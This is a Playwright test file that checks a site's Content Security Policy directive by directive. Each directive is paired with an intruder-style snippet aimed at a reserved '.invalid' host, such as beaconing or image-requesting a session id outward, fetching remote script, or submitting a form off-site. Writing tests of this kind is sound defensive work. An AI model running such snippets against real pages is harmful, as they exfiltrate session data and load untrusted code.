import { expect, test } from '@playwright/test';

/** A real host of somebody else; the name is reserved, so that no test ever finds it. */
const foreign = 'https://somebody-else.invalid';

/** Each directive of the document's policy, and what an intruder's code might try that it stops. */
const attempts: readonly (readonly [directive: string, code: string])[] = [
  ['font-src', `new FontFace('F', 'url(${foreign}/f.woff2)').load().catch(() => {})`],
  ['media-src', `new Audio('${foreign}/a.mp3').load()`],
  [
    'frame-src',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${foreign}/' }))`,
  ],
  ['script-src-elem', `import('${foreign}/x.js').catch(() => {})`],
  ['require-trusted-types-for', `setTimeout(() => { try { Function('return 1')() } catch {} })`],
  ['style-src-attr', `document.body.setAttribute('style', 'color: red')`],
  [
    'style-src-elem',
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'p {}' }))`,
  ],
  ['connect-src', `fetch('${foreign}/').catch(() => {})`],
  ['connect-src', `navigator.sendBeacon('${foreign}/', 'sid')`],
  ['connect-src', `try { new WebSocket('wss://somebody-else.invalid/') } catch {}`],
  ['img-src', `new Image().src = '${foreign}/?sid'`],
  [
    'worker-src',
    `try {
       const policy = trustedTypes.createPolicy('dictionary', { createScriptURL: (url) => url });
       new Worker(policy.createScriptURL('data:text/javascript,1'));
     } catch {}`,
  ],
  [
    'form-action',
    `{ const form = document.createElement('form'); form.action = '${foreign}/'; document.body.append(form); try { form.submit() } catch {} }`,
  ],
  [
    'base-uri',
    `document.head.append(Object.assign(document.createElement('base'), { href: '${foreign}/' }))`,
  ],
  [
    'object-src',
    `const policy = trustedTypes.createPolicy('dictionary', { createScriptURL: (url) => url });
     const data = policy.createScriptURL('${foreign}/');
     document.body.append(Object.assign(document.createElement('object'), { data }))`,
  ],
  ['require-trusted-types-for', `try { document.body.innerHTML = '<b>' } catch {}`],
  ['trusted-types', `try { trustedTypes.createPolicy('of-an-intruder', {}) } catch {}`],
];

test('each directive of the policy stops what it is for', async ({ page }) => {
  const asked: string[] = [];
  page.on('requestfinished', (request) => asked.push(request.url()));
  for (const [directive, code] of attempts) {
    await page.goto('en/glossary/');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => {
      const stopped = window as unknown as { stopped: string[] };
      stopped.stopped = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        stopped.stopped.push(effectiveDirective);
      });
    });
    await page.evaluate(code);
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped), {
        message: code,
      })
      .toContain(directive);
  }
  expect(asked.filter((url) => url.includes('somebody-else'))).toEqual([]);
});
